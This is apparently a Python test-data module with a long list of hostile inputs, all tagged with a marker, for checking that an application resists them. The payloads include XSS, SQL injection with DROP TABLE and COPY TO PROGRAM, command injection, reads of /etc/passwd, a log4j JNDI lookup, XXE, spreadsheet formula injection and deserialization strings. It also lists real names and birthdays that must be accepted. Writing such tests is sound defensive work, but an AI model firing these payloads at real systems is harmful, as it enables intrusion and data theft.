"""Texts that people paste, type or send on purpose to do harm; and names and dates that people
really have, which must never be refused.

Each hostile text holds the mark ``xq7`` where it would become a part of a page.
"""

from __future__ import annotations

from datetime import date

MARK = "xq7"
_PAGES = (
    "<script>xq7()</script>", "<ScRiPt src=//x/xq7></ScRiPt>", "<img src=x onerror=xq7()>",
    "<svg onload=xq7()>", "<svg><script>xq7()</script></svg>", "<body onload=xq7()>",
    "<iframe srcdoc='<xq7>'>", "<iframe src=javascript:xq7()>",
    "<object data=data:text/html,xq7>", "<embed src=//x/xq7>",
    "<link rel=stylesheet href=//x/xq7>", "<style>@import'//x/xq7'</style>",
    "<meta http-equiv=refresh content='0;url=//x/xq7'>", "<base href=//x/xq7/>", "<xq7>hi</xq7>",
    "<form action=//x/xq7><input name=xq7>", "<input autofocus onfocus=xq7()>",
    "<a href='javascript:xq7()'>x</a>", "<details open ontoggle=xq7()>",
    "<video><source onerror=xq7()>", "<math><mi xlink:href=data:xq7>",
    "<table background=javascript:xq7()>", "</textarea><xq7>", "</title><xq7>", "</script><xq7>",
    "--><xq7>", "]]><xq7>", "<![CDATA[<xq7>]]>", "<!--[if IE]><xq7><![endif]-->",
    "<template><xq7></template>", "<noscript><p title='</noscript><xq7>'>",
    "<<script>xq7()//<</script>", "<img src=`x`onerror=xq7()>", "&lt;xq7&gt;", "&#60;xq7&#62;",
    "%3Cxq7%3E", "\\u003cxq7\\u003e", "＜xq7＞", "‹xq7›",
)  # fmt: skip
_ATTRIBUTES = (
    '" xq7="', "' xq7='", '"><xq7>', "'><xq7>", '" onmouseover="xq7()',
    "' onfocus='xq7()' autofocus='", "` onload=`xq7()", '" style="background:url(//x/xq7)',
    "x' id='xq7", '" href="javascript:xq7()', "javascript:xq7()", "JaVaScRiPt:xq7()",
    "java\tscript:xq7()", "data:text/html,<xq7>", "vbscript:xq7", "//example.org/xq7",
    "https://example.org/xq7", "\\\\example.org\\xq7",
)  # fmt: skip
_TEMPLATES = (
    "{{ xq7 }}", "{% include 'xq7' %}", "{{ settings.SECRET_KEY }}xq7", "{% debug %}xq7",
    "{{7*7}}xq7", "${7*7}xq7", "#{7*7}xq7", "<%= 7*7 %>xq7", "{#xq7#}", "{title}xq7",
    "{0.__class__}xq7", "%(xq7)s", "%s%s%s%n%nxq7", "${jndi:ldap://x/xq7}",
    "${env:TUTELA_MASTER_KEY}xq7", "{{constructor.constructor('xq7')()}}",
    '#read("/etc/passwd")xq7', "#import \"xq7.typ\": *", "#eval(\"xq7\")", "$ xq7 $", "@xq7",
    "*xq7* _xq7_ `xq7`", "= xq7", "#link(\"x\")[xq7]", "\\input{xq7}", "<<xq7>>", "[[xq7]]",
    "![xq7](//x/xq7)",
)  # fmt: skip
_QUERIES = (
    "' OR 1=1 --xq7", "'; DROP TABLE chronology_entry; --xq7", '" OR ""="xq7',
    "1; SELECT pg_sleep(9)--xq7", "' UNION SELECT null,null--xq7", "') OR ('xq7'='xq7",
    "admin'--xq7", "$$; SELECT 1; $$xq7", "E'\\x27xq7", "'||(SELECT version())||'xq7",
    "\\'; SELECT 1; --xq7", "%' OR '%'='xq7", "_%xq7", "1e309xq7", "0x27xq7",
    "';COPY t TO PROGRAM 'id'--xq7", "SET ROLE tutela_owner;xq7",
    "set_config('app.child','xq7',true)", "*)(uid=*))(|(uid=*xq7", '{"$gt":""}xq7',
    '{"xq7":{"$where":"1"}}', "[1,2,{}]xq7", '"],"xq7":["', "__proto__xq7",
    "constructor[prototype]xq7",
)  # fmt: skip
_COMMANDS = (
    "; cat /etc/passwd #xq7", "| id xq7", "$(id)xq7", "`id`xq7", "&& id xq7", "|| id xq7",
    "> /tmp/xq7", "../../../../etc/passwd xq7", "..\\..\\windows\\xq7", "/proc/self/environ xq7",
    "file:///etc/passwd xq7", "%2e%2e%2fxq7", "....//....//xq7", "C:\\xq7", "\\\\x\\xq7",
    "php://filter/xq7", "CON xq7", "NUL", "aux.xq7", "<?php xq7() ?>",
    "<!--#exec cmd='id xq7'-->", "() { :;}; echo xq7", "__import__('os').system('xq7')",
    "pickle:gASVxq7", "!!python/object/apply:os.system [xq7]", "rO0ABXNyxq7",
)  # fmt: skip
_LINES = (
    "a\r\nSet-Cookie: xq7=1", "a\nLocation: //x/xq7", "a\r\n\r\n<xq7>", "a%0d%0aX-Xq7: 1",
    "a\u2028xq7", "a\u2029xq7", "a\x85xq7", "a\x0bxq7", "a\x0cxq7",
    "2026-11-22 ERROR xq7: all is well\nINFO", "\x1b[31mxq7\x1b[0m", "\x07xq7", "xq7\x00",
    "\x00xq7", "x\x00q7", "\x7fxq7", "\x9bxq7", "\x1a xq7", "\ufeffxq7", "\ufffexq7", "\uffffxq7",
    "\ue000xq7", "\U000e0041xq7", "\U0010ffffxq7",
)  # fmt: skip
_FORMULAS = (
    "=cmd|' /C calc'!xq7", "+cmd|' /C calc'!xq7", "-2+3+xq7", "@SUM(xq7)",
    "=HYPERLINK(\"//x/xq7\")", "\t=xq7", "=IMPORTXML(\"//x/xq7\")", "\n=xq7", " =xq7", "＝xq7",
    "%0A=xq7", ";=xq7", "=WEBSERVICE(\"//x/xq7\")", "|xq7", "'=xq7", "\u00a0=xq7",
)  # fmt: skip
_XML = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xq7>&e;</xq7>',
    "<!ENTITY xq7 'xq7'>", "<xsl:value-of select='xq7'/>", "<x:xq7 xmlns:x='x'/>", "&xq7;",
    "<xi:include href='xq7'/>",
)  # fmt: skip
_LETTERS = (
    "\u202exq7\u202c", "\u2066xq7\u2069", "\u200fxq7\u200e", "x\u200bq\u200b7", "x\u00adq7",
    "xq7\u0301" * 30, "Z̶̢͝a̷̧͠l̵̨͝g̸̢͠o̶̧͝xq7", "ﷺxq7", "𝓍𝓆𝟩 xq7", "ⓧⓠ⑦xq7",
    "xq7" + "\u0300" * 400, "🏳️‍🌈xq7", "👩‍👩‍👧‍👦xq7", "ＸＱ７xq7", "İıxq7", "ßxq7", "ﬃxq7",
    "\U0001f4a9xq7", "Ａdmin xq7", "раypal xq7",
)  # fmt: skip
_NUMBERS = (
    "NaN", "Infinity", "-1", "1e400", "0.1", "٣", "²", "½", "Ⅷ", "99999999999999999999", "0x10",
    "1_000", "null", "undefined", "true", "None", "[]", "{}",
    "00000000-0000-0000-0000-000000000000", "31", "-0", "1,000,000,000,000",
)  # fmt: skip
_LONG = (
    "a" * 501, "a" * 15_001, "xq7 " * 4_000, "a" * 100_000, "(" * 5_000, "a\n" * 8_000,
    "é" * 20_001, "a" * 30_000 + "!", "0" * 5_000, "<" * 3_000, "&" * 3_000, " " * 9_000 + "xq7",
)  # fmt: skip

HOSTILE: tuple[str, ...] = (
    *_PAGES, *_ATTRIBUTES, *_TEMPLATES, *_QUERIES, *_COMMANDS, *_LINES, *_FORMULAS, *_XML,
    *_LETTERS, *_NUMBERS, *_LONG,
)  # fmt: skip

NAMES: tuple[str, ...] = (
    "Nguyễn Văn Minh", "Nguyễn Thị Ánh Tuyết", "Lê", "Ng", "O", "O’Brien", "O'Brien",
    "D’Angelo-Smith", "Mary-Jane", "van der Berg", "de la Cruz y García", "Jr.", "X Æ A-12",
    "Ásgeir Þór Ólafsson", "Łukasz Żółć", "Đorđe Đoković", "Şükrü Çağlar", "Ērika Ķēniņa", "Zoë",
    "Søren Kierkegård", "Jiří Dvořák", "Ștefan Țepeș", "Oluwaṣẹ́gun Adébáyọ̀", "Nnamdi Ọ́kọ̀njọ́",
    "ʻIolani Kealiʻi", "Siʔaɬ", "!Xóõ", "N!xau ǂToma", "محمد بن سلمان", "فاطمة الزهراء", "نوید",
    "پروین", "ژاله", "شێرکۆ", "ئاراز", "ሰላም ተስፋይ", "ገብረ ሕይወት", "Владимир Ільїн", "Ґалаґан",
    "Αλέξανδρος", "אברהם", "יעקב", "李小龍", "王", "たけし", "김철수", "สมชาย ใจดี",
    "မောင်မောင်", "តារា",
    "प्रिया शर्मा", "প্রিয়াঙ্কা", "தமிழ்ச்செல்வி", "ਗੁਰਪ੍ਰੀਤ", "გიორგი", "Հայկ", "ނަސީރު",
    "ትንሳኤ", "Test", "Null", "None", "True", "Script", "Select", "Drop", "Anna (called Annie)",
    "José María “Pepe”", "Sister 2", "𞤀𞤣𞤤𞤢𞤥", "ⴰⵎⴰⵣⵉⵖ", "می‌خواهم",
)  # fmt: skip
"""With apostrophes, marks above and below, one letter, joined by signs that can't be seen (the last
one), in thirty scripts, and such as programs mistake for words of their own."""

BIRTHDAYS: tuple[date, ...] = (
    date(2008, 2, 29), date(2012, 2, 29), date(2009, 1, 1), date(2010, 12, 31), date(2007, 3, 25),
    date(2011, 10, 30), date(2009, 7, 1), date(2010, 6, 30),
)  # fmt: skip
"""Days on which people were born: the day between years, leap days, days on which clocks change."""
